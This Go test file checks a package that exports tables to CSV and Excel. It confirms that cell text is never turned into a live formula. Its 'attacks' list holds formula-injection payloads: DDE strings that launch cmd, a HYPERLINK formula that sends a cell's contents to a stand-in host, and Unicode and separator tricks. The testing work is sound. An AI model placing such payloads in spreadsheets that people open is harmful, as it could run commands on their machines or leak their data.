package sheet_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/sightline-readiness/sightline/internal/calendar"
	"github.com/sightline-readiness/sightline/internal/sheet"
)

var day = calendar.On(2026, time.March, 3)

func table(rows ...[]any) sheet.Sheet {
	return sheet.Sheet{Name: "Open cases", Header: []string{"Ref", "Since"}, Rows: slices.Values(rows)}
}

func TestWriteCSV(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	err := sheet.WriteCSV(&out, table(
		[]any{"C1", day}, []any{"=1+1", calendar.Date{}}, []any{"+44", -3}, []any{"-x", 2.5}, []any{"@x", true},
		[]any{"\tx", nil}, []any{"\rx", int64(7)}, []any{`say "hi", you`, time.Date(2026, 3, 3, 9, 5, 0, 0, time.UTC)}))
	if err != nil {
		t.Fatal(err)
	}
	want := "\ufeffRef,Since\r\nC1,2026-03-03\r\n'=1+1,\r\n'+44,-3\r\n'-x,2.5\r\n'@x,true\r\n\"'\tx\",\r\n\"'\nx\",7\r\n\"say \"\"hi\"\", you\",2026-03-03 09:05:00\r\n"
	if got := out.String(); got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func TestWriteXLSX(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	first := table([]any{"=1+1", day}, []any{"+44 & <b>", 12}, []any{"-1", 2.5}, []any{strings.Repeat("long ", 30), calendar.Date{}}, []any{nil, true})
	second := sheet.Sheet{Name: "Empty"}
	if err := sheet.WriteXLSX(&out, first, second); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	if got := book.GetSheetList(); !slices.Equal(got, []string{"Open cases", "Empty"}) {
		t.Errorf("sheets %q", got)
	}
	for cell, want := range map[string]string{
		"A1": "Ref", "A2": "=1+1", "B2": "03/03/2026", "A3": "+44 & <b>", "B3": "12", "A4": "-1", "B4": "2.5", "B5": "", "A6": "", "B6": "TRUE",
	} {
		got, err := book.GetCellValue("Open cases", cell)
		if err != nil || got != want {
			t.Errorf("%s: %q, want %q (%v)", cell, got, want, err)
		}
		if formula, err := book.GetCellFormula("Open cases", cell); err != nil || formula != "" {
			t.Errorf("%s is the formula %q (%v)", cell, formula, err)
		}
	}
	if kind, err := book.GetCellType("Open cases", "A4"); err != nil || kind != excelize.CellTypeInlineString {
		t.Errorf("text that looks like a number has type %v (%v)", kind, err)
	}
	if raw, err := book.GetCellValue("Open cases", "B2", excelize.Options{RawCellValue: true}); err != nil || raw != "46084" {
		t.Errorf("the date is %q underneath (%v)", raw, err)
	}
}

// attacks are texts that some spreadsheet would run, or that would begin a new cell in which it would.
var attacks = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x.example?"&A1,"see")`, "=DDE(\"cmd\",\"/C calc\",\"x\")", "\t=1+1", "\r=1+1", "\n=1+1",
	"\r\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u22121+1", "\t", "-", "=",
	`x;=1+1`, `x;"=1+1"`, `";=1+1`, `",=1+1`, "x\t=1+1", "x|=1+1", "x\r\n=1+1", "x\r=1+1", `"=1+1"`,
}

// TestNoTextBecomesAFormula writes each attack as a header, a cell and a note. In a workbook all are text as they were; in a csv file no cell begins with
// a sign, whichever sign ends a cell.
func TestNoTextBecomesAFormula(t *testing.T) {
	t.Parallel()
	for _, text := range attacks {
		attack := sheet.Sheet{Name: "Attack", Note: text, Header: []string{text}, Rows: slices.Values([][]any{{text}})}
		var book, file bytes.Buffer
		if err := errors.Join(sheet.WriteXLSX(&book, attack), sheet.WriteCSV(&file, attack)); err != nil {
			t.Fatal(err)
		}
		opened, err := excelize.OpenReader(&book)
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range []string{"A1", "A2", "A3"} {
			kind, err := opened.GetCellType("Attack", cell)
			formula, wrong := opened.GetCellFormula("Attack", cell)
			if err != nil || wrong != nil || formula != "" || (kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString) {
				t.Errorf("%q in %s of a workbook is of type %v with formula %q (%v, %v)", text, cell, kind, formula, err, wrong)
			}
		}
		for _, comma := range []rune{',', ';', '\t', '|'} {
			reader := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file.Bytes(), []byte("\ufeff"))))
			reader.Comma, reader.FieldsPerRecord = comma, -1
			rows, err := reader.ReadAll()
			if err != nil || len(rows) != 3 {
				t.Errorf("%q cut at %q: %d lines (%v)", text, comma, len(rows), err)
			}
			for _, row := range rows {
				if len(row) != 1 || strings.IndexAny(strings.TrimLeft(row[0], " \t\r\n\x00\u00a0\u200b\ufeff"), "=+-@\uff1d\uff0b\uff0d\uff20\u2212") == 0 {
					t.Errorf("%q cut at %q is %q", text, comma, row)
				}
			}
		}
	}
}

func TestANoteStandsAboveTheHeader(t *testing.T) {
	t.Parallel()
	noted := table([]any{"C1", day})
	noted.Note = "Anyshire Council, 1 row"
	var file, out bytes.Buffer
	if err := errors.Join(sheet.WriteCSV(&file, noted), sheet.WriteXLSX(&out, noted)); err != nil {
		t.Fatal(err)
	}
	if got := file.String(); got != "\ufeff\"Anyshire Council, 1 row\"\r\nRef,Since\r\nC1,2026-03-03\r\n" {
		t.Errorf("%q", got)
	}
	book, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := book.GetRows("Open cases")
	if err != nil || len(rows) != 3 || rows[0][0] != noted.Note || rows[1][0] != "Ref" || rows[2][1] != "03/03/2026" {
		t.Errorf("%q %v", rows, err)
	}
}

func TestRefusals(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	if err := sheet.WriteXLSX(&out); err == nil {
		t.Error("a workbook without sheets was written")
	}
	if err := sheet.WriteXLSX(&out, table([]any{struct{}{}})); err == nil || !strings.Contains(err.Error(), "struct {}") {
		t.Errorf("a value that no cell holds: %v", err)
	}
	if err := sheet.WriteCSV(&out, table([]any{[]byte("x")})); err == nil {
		t.Error("a value that no cell holds was written")
	}
	if err := sheet.WriteXLSX(&out, sheet.Sheet{Name: "a/b"}); err == nil {
		t.Error("a name that no sheet has was taken")
	}
	if err := sheet.WriteCSV(full{}, table([]any{"x", 1})); !errors.Is(err, errFull) {
		t.Errorf("full disk: %v", err)
	}
	if err := sheet.WriteXLSX(full{}, table([]any{"x", 1})); !errors.Is(err, errFull) {
		t.Errorf("full disk: %v", err)
	}
}

var errFull = errors.New("disk full")

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errFull }
